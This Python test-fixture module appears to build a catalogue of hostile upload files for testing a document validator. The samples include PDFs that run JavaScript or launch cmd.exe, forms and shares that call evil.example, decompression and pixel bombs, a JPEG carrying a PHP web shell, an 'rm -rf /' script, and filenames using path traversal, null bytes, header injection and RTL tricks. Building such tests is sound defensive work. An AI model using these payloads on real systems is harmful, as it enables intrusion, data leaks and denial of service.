"""Files that mean harm, each made here byte by byte."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from .papers import CATALOG, JPEG, PAGE, PAGES, PDF, PNG, WEBP, chunk, pdf, picture, png, stream

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>alert(1)</script>"


def opens(action: bytes) -> bytes:
    return CATALOG.replace(b"/Pages", b"/OpenAction " + action + b"/Pages")


def catalog(more: bytes) -> bytes:
    return CATALOG.replace(b"/Pages", more + b"/Pages")


def noted(note: bytes) -> bytes:
    """Return a PDF whose page has one annotation."""
    return pdf(note, page=PAGE.replace(b"/MediaBox", b"/Annots[4 0 R]/MediaBox"))


def zipped(**files: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return held.getvalue()


def hidden_in_an_object_stream() -> bytes:
    """A PDF 1.5 whose script stands in a packed object stream, beyond a search of bytes."""
    inside = b"6 0 " + SCRIPT
    body, places = b"%PDF-1.5\n", {}
    packed = zlib.compress(inside)
    held = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    objects = {1: opens(b"6 0 R"), 2: PAGES, 3: PAGE, 4: held}
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = struct.pack(">BHB", 0, 0, 255)
    for number in range(1, 5):
        rows += struct.pack(">BHB", 1, places[number], 0)
    rows += struct.pack(">BHB", 1, len(body), 0) + struct.pack(">BHB", 2, 4, 0)
    table = stream(rows, b"/Type/XRef/Size 7/W[1 2 1]/Root 1 0 R")
    return body + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body))


def bomb(size: int, said: bytes = b"/Filter/FlateDecode") -> bytes:
    packing = zlib.compressobj(9)
    packed = b"".join(packing.compress(bytes(2**20)) for _mebibyte in range(size))
    return pdf(stream(packed + packing.flush(), said))


def moving(kind: str) -> bytes:
    held = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("teal", "orange")]
    frames[0].save(held, kind, save_all=True, append_images=frames[1:])
    return held.getvalue()


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(4, 4 + count))
    pages = b"<</Type/Pages/Kids[%s]/Count 1>>" % kids  # the count lies
    return pdf(*[PAGE] * count, pages=pages)


HOSTILE = {
    # what it is: (code, name, content)
    "nothing": ("empty", "contract.pdf", b""),
    "a program": ("type", "contract.pdf", b"MZ\x90\0" + bytes(200)),
    "a script for the shell": ("type", "contract.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "a web page": ("type", "contract.pdf", HTML),
    "a drawing with a script": ("type", "seal.svg", SVG),
    "a drawing named as a picture": ("type", "seal.png", SVG),
    "an archive": ("type", "contract.pdf", zipped(a=b"1")),
    "an archive by its own name": ("type", "papers.zip", zipped(a=b"1")),
    "a text of an office program": (
        "type",
        "contract.docx",
        zipped(word__document=b"x", content_types=b"x"),
    ),
    "an office text named as a PDF": ("type", "contract.pdf", zipped(word__document=b"x")),
    "an old office text with macros": (
        "type",
        "contract.pdf",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    ),
    "a moving GIF": ("type", "seal.gif", moving("GIF")),
    "a TIFF": ("type", "scan.tiff", picture("TIFF")),
    "a double extension": ("type", "contract.pdf.exe", PDF),
    "a page by its extension": ("type", "contract.pdf.html", PDF),
    "a PDF that says it is a picture": ("type", "contract.jpg", PDF),
    "a path upwards": ("name", "../../../etc/cron.d/contract.pdf", PDF),
    "a path of Windows": ("name", "C:\\Windows\\contract.pdf", PDF),
    "a name turned round": ("name", "contract\u202efdp.exe.pdf", PDF),
    "a name that ends early": ("name", "contract.php\0.pdf", PDF),
    "a name of two lines": ("name", "contract\r\nX-Evil: 1.pdf", PDF),
    "a name of a device": ("name", "con.pdf", PDF),
    "a hidden name": ("name", ".htaccess.pdf", PDF),
    "a name for an option": ("name", "-rf.pdf", PDF),
    "a name without end": ("name", "a" * 400 + ".pdf", PDF),
    "a script on opening": ("acting", "a.pdf", pdf(SCRIPT, catalog=opens(b"4 0 R"))),
    "a script in the names": (
        "acting",
        "a.pdf",
        pdf(SCRIPT, catalog=catalog(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>")),
    ),
    "a script in disguise": (
        "acting",
        "a.pdf",
        pdf(b"<</S/Java#53cript/#4aS(app.alert\\(1\\))>>", catalog=opens(b"4 0 R")),
    ),
    "a script in a packed stream": ("acting", "a.pdf", hidden_in_an_object_stream()),
    "a script that no page reaches": ("acting", "a.pdf", pdf(SCRIPT)),
    "a script behind the tables": (
        "acting",
        "a.pdf",
        PDF.replace(b"xref", b"9 0 obj\n" + SCRIPT + b"\nendobj\nxref", 1),
    ),
    "a script when a page turns": (
        "acting",
        "a.pdf",
        pdf(page=PAGE.replace(b"/MediaBox", b"/AA<</O " + SCRIPT + b">>/MediaBox")),
    ),
    "a program that is started": (
        "acting",
        "a.pdf",
        pdf(catalog=opens(b"<</S/Launch/F(cmd.exe)>>")),
    ),
    "a link that starts a program": (
        "acting",
        "a.pdf",
        noted(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>"),
    ),
    "a form that sends itself": (
        "acting",
        "a.pdf",
        noted(b"<</Type/Annot/Subtype/Widget/A<</S/SubmitForm/F(http://evil.example)>>>>"),
    ),
    "a share that is asked for a password": (
        "acting",
        "a.pdf",
        pdf(catalog=opens(b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>")),
    ),
    "another file inside": (
        "acting",
        "a.pdf",
        pdf(
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            stream(b"MZ", b"/Type/EmbeddedFile"),
            catalog=catalog(b"/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>"),
        ),
    ),
    "a file pinned to a page": (
        "acting",
        "a.pdf",
        noted(b"<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)>>>>"),
    ),
    "a form of another kind": ("acting", "a.pdf", pdf(catalog=catalog(b"/AcroForm<</XFA 4 0 R>>"))),
    "a film": ("acting", "a.pdf", noted(b"<</Type/Annot/Subtype/RichMedia>>")),
    "a stream from elsewhere": (
        "acting",
        "a.pdf",
        pdf(stream(b"", b"/F(http://evil.example/x)")),
    ),
    "a locked PDF": (
        "locked",
        "a.pdf",
        pdf(
            b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"00" * 32, b"00" * 32),
            trailer=b"/Encrypt 4 0 R/ID[<00><00>]",
        ),
    ),
    "a PDF cut short": ("broken", "a.pdf", PDF[:-40]),
    "only the head of a PDF": ("broken", "a.pdf", b"%PDF-1.7\n"),
    "a PDF without a page": (
        "broken",
        "a.pdf",
        pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>"),
    ),
    "pages that hold each other": (
        "broken",
        "a.pdf",
        pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    ),
    "a count of pages beyond all": (
        "pages",
        "a.pdf",
        pdf(pages=PAGES.replace(b"/Count 1", b"/Count 99999999")),
    ),
    "more pages than it says": ("pages", "a.pdf", many_pages(2_001)),
    "a stream that becomes huge": ("heavy", "a.pdf", lambda: bomb(200)),
    "a stream packed twice": (
        "heavy",
        "a.pdf",
        bomb(1, b"/Filter[/FlateDecode/FlateDecode]"),
    ),
    "a huge picture in a PDF": (
        "pixels",
        "a.pdf",
        pdf(stream(b"", b"/Type/XObject/Subtype/Image/Width 60000/Height 60000")),
    ),
    "an archive behind a PDF": ("double", "a.pdf", PDF + zipped(a=b"1")),
    "an archive inside a PDF's comment": (
        "double",
        "a.pdf",
        PDF[:-6] + zipped(a=b"1") + b"\n%%EOF\n",
    ),
    "a web page in a PDF's comment": (
        "double",
        "a.pdf",
        PDF.replace(b"%\xe2", b"%" + HTML + b"\xe2", 1),
    ),
    "a program behind a PDF": ("double", "a.pdf", PDF + b"MZ" + bytes(99) + b"x"),
    "a bomb of pixels": ("pixels", "a.png", png(60_000, 60_000, pixels=b"\0")),
    "a very long line": ("pixels", "a.png", png(40_000, 1)),
    "a picture cut short": ("broken", "a.png", PNG[:-20]),
    "a picture without its rows": ("broken", "a.png", png(500, 500, pixels=b"\0")),
    "a picture with a wrong check sum": ("broken", "a.png", PNG.replace(b"IDAT", b"IDAU")),
    "a text that becomes huge": (
        "broken",
        "a.png",
        lambda: png(2, 2, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(2**27), 9))),
    ),
    "an archive behind a picture": ("double", "a.png", PNG + zipped(a=b"1")),
    "a web page in a picture": ("double", "a.png", png(2, 2, chunk(b"tEXt", b"a\0" + HTML))),
    "a PDF in a picture": ("double", "a.png", png(2, 2, chunk(b"tEXt", b"a\0%PDF-1.7"))),
    "a script behind a photograph": ("double", "a.jpg", JPEG + b"<?php system($_GET[1]); ?>"),
    "a photograph cut short": ("broken", "a.jpg", JPEG[: len(JPEG) // 2]),
    "a picture that is longer than it says": ("double", "a.webp", WEBP + b"MZ" + bytes(9) + b"x"),
    "a moving WebP": ("moving", "a.webp", moving("WEBP")),
    "a moving PNG": ("type", "a.png", moving("PNG")),
}
